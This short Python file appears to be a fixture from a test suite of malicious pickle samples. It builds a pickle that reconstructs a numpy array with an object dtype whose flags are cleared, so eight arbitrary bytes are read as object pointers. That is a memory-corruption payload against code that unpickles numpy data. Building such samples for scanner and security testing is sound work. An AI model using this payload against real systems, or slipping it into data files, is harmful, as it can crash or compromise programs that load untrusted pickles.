"""An object dtype whose flags say that it holds none: bytes become pointers."""

from __future__ import annotations

from malicious_samples.recipes import make_dtype
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    p = Pickle().call(
        Name("numpy._core.multiarray", "_reconstruct"), Name("numpy", "ndarray"), (0,), b"b"
    )
    dtype = make_dtype("O8", order="|", flags=0)
    return p.save((1, (1,), dtype, False, b"A" * 8)).build().finish()
